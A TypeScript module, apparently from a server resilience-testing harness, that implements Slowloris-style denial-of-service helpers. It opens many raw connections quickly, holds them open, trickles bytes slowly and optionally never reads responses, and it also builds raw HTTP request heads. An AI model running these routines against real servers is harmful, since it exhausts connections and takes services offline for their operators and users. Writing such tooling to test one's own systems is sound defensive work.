/** Raw connections of attackers: opens them quickly, holds them, writes slowly or never reads. */
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { AttackContext } from './attack.ts';
import { errorLabel } from './http.ts';

const AT_ONCE = 100;
const CONNECT_MS = 5000;

/** Options of {@link holdConnections}. */
interface HoldOptions {
  connections: number;
  /** Bytes to send after the connection is opened. */
  first?: (index: number) => string | Buffer;
  /** Bytes to send repeatedly on each connection, and the interval. */
  drip?: { bytes: (turn: number) => string | Buffer; everyMs: number };
  /** Whether to read the responses. Without reading, the server must buffer them. */
  reads?: boolean;
}

/** Opens connections as fast as the server accepts them, and holds them until the attack is over. */
export async function holdConnections(context: AttackContext, options: HoldOptions): Promise<void> {
  const { connections, first, drip, reads = true } = options;
  const open = new Set<Socket>();
  const openOne = async (index: number) => {
    const socket = await openConnection(context);
    if (socket === undefined) return;
    open.add(socket);
    context.tally.count('connected');
    socket.on('close', () => {
      open.delete(socket);
      if (!context.signal.aborted) context.tally.count('closed by server');
    });
    if (reads) socket.resume();
    else socket.pause();
    if (first) socket.write(first(index));
  };
  const indexes = Array.from({ length: connections }, (_, index) => index).values();
  const opener = async () => {
    for (const index of indexes) {
      if (context.signal.aborted) return;
      await openOne(index);
    }
  };
  const opening = Promise.all(Array.from({ length: AT_ONCE }, opener));
  for (let turn = 0; drip && !context.signal.aborted; turn += 1) {
    for (const socket of open) socket.write(drip.bytes(turn));
    await sleep(drip.everyMs, undefined, { signal: context.signal }).catch(() => undefined);
  }
  await opening;
  await waitForEnd(context);
  for (const socket of open) socket.destroy();
}

/** Connects from the attacker's address. Resolves with undefined if that fails, and counts the error. */
export function openConnection(context: AttackContext): Promise<Socket | undefined> {
  const { hostname, port } = new URL(context.url);
  return new Promise((resolve) => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: context.address });
    const timer = setTimeout(() => socket.destroy(new Error('no connection in time')), CONNECT_MS);
    const onError = (error: Error) => {
      clearTimeout(timer);
      context.tally.count(errorLabel(error));
      resolve(undefined);
    };
    socket.once('error', onError);
    socket.once('connect', () => {
      clearTimeout(timer);
      socket.off('error', onError);
      socket.on('error', () => socket.destroy());
      resolve(socket);
    });
  });
}

/** Resolves when the attack is over. */
export function waitForEnd({ signal }: AttackContext): Promise<void> {
  if (signal.aborted) return Promise.resolve();
  return new Promise((resolve) => signal.addEventListener('abort', () => resolve(), { once: true }));
}

/** Returns the head of a raw HTTP/1.1 request, without the final empty line. */
export function rawHead(method: string, path: string, headers: Record<string, string> = {}): string {
  const lines = Object.entries({ host: 'greenroom.example', ...headers }).map(
    ([name, value]) => `${name}: ${value}\r\n`,
  );
  return `${method} ${path} HTTP/1.1\r\n${lines.join('')}`;
}
